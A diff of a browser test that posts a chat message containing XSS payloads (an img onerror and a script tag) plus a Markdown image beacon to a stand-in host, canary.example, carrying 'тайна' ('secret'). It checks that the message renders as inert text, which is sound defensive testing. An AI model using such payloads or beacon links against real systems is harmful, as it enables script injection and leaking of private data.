@@ -165,7 +165,8 @@ describe('examples/browser', () => {
     const page = await aPage();
     const open = () => page.at('chats').button('Обсуждение');
     (await eventually('the chat is listed', () => Promise.resolve(open()))).click();
-    const hostile = '<img src=x onerror=alert(1)><script>alert(2)</script>';
+    const hostile =
+      '<img src=x onerror=alert(1)><script>alert(2)</script> ![счёт](http://canary.example/x.png?q=тайна)';
     await owner.client.post(`/chats/${chat.id}/messages`, { content: hostile });
     const item = await shown(page, hostile);
     expect(item.children.map(({ tag }) => tag)).toEqual(['small', 'span']);
